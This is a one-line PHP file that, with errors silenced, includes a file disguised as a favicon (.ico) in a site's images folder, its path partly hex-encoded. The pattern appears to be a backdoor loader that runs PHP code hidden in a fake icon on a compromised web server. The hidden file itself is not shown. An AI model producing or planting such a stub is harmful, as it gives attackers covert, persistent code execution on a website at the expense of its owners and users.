<?php
@include "\x2fvar/www/html/images/favicon_b2f1c.ico";
